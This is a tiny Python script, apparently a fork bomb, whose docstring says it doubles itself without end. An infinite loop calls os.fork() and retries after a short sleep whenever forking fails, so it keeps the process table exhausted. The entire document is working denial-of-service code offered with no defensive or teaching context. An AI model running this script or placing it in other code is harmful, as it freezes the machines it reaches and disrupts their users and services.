"""Doubles itself without end, and waits for room when there is none."""
import os
import time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
